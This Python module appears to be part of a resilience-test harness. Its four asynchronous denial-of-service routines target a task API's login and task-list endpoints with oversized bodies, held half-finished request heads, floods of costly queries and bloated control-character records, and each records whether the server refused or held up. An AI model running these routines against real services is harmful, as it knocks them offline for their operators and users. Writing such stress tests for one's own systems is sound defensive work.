"""Attacks by single requests: endless bodies, unfinished heads, costly lists."""

from __future__ import annotations

import asyncio
from contextlib import suppress

from attack.hostile.villain import Villain

_HALF_HEADS = 300
_COSTLY_AT_ONCE = 60
_FAT_TASKS = 1_000
_FAT_LISTS_AT_ONCE = 20
_CHUNK = b"x" * 65_536


async def bodies(villain: Villain) -> None:
    """Sends 200 MiB under a Content-Length with twenty leading zeros, without an account."""
    length = 200 * 2**20
    head = f"POST /v1/auth/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {length:030}"
    while True:
        opened = await villain.open()
        if opened is not None:
            reader, writer = opened
            sent = 0
            with suppress(OSError):
                writer.write(f"{head}\r\n\r\n".encode())
                while sent < length and not reader.at_eof():
                    writer.write(_CHUNK)
                    await writer.drain()
                    sent += len(_CHUNK)
            villain.outcomes["taken whole" if sent >= length else "refused"] += 1
            writer.close()
        await asyncio.sleep(1)


async def heads(villain: Villain) -> None:
    """Holds 300 connections with unfinished request heads."""

    async def hold() -> None:
        while True:
            opened = await villain.open()
            if opened is not None:
                reader, writer = opened
                villain.outcomes["held"] += 1
                with suppress(OSError):
                    writer.write(b"GET /v1/me HTTP/1.1\r\nHost: a\r\nX-")
                    villain.outcomes["cut" if not await reader.read(4096) else "answered"] += 1
                writer.close()
            await asyncio.sleep(2)

    async with asyncio.TaskGroup() as group:
        for _ in range(_HALF_HEADS):
            group.create_task(hold())


async def costly_requests(villain: Villain) -> None:
    """Sends sixty costly requests at once, with one account."""
    await villain.join()
    searches = [
        "sort=due_at&due_before=1990-01-01T00:00:00Z&limit=1000",
        "sort=updated_at&updated_since=2090-01-01T00:00:00Z&limit=1000",
        "sort=priority&status=cancelled&limit=1000",
        "sort=-created_at&limit=1000",
    ]

    async def search(number: int) -> None:
        while True:
            await villain.ask("GET", f"/v1/tasks?{searches[number % len(searches)]}")
            await asyncio.sleep(0.5)

    async with asyncio.TaskGroup() as group:
        for number in range(_COSTLY_AT_ONCE):
            group.create_task(search(number))


async def fat_lists(villain: Villain) -> None:
    """Creates tasks of 20,000 control characters each, and reads twenty lists of them at once."""
    await villain.join()

    async def create() -> None:
        for number in range(_FAT_TASKS):
            await villain.ask("POST", "/v1/tasks", json={"title": f"Fat {number}", "description": "\x01" * 20_000})
            await asyncio.sleep(0.1)

    async def read() -> None:
        while True:
            await villain.ask("GET", "/v1/tasks?limit=1000")
            await asyncio.sleep(1)

    async with asyncio.TaskGroup() as group:
        group.create_task(create())
        for _ in range(_FAT_LISTS_AT_ONCE):
            group.create_task(read())
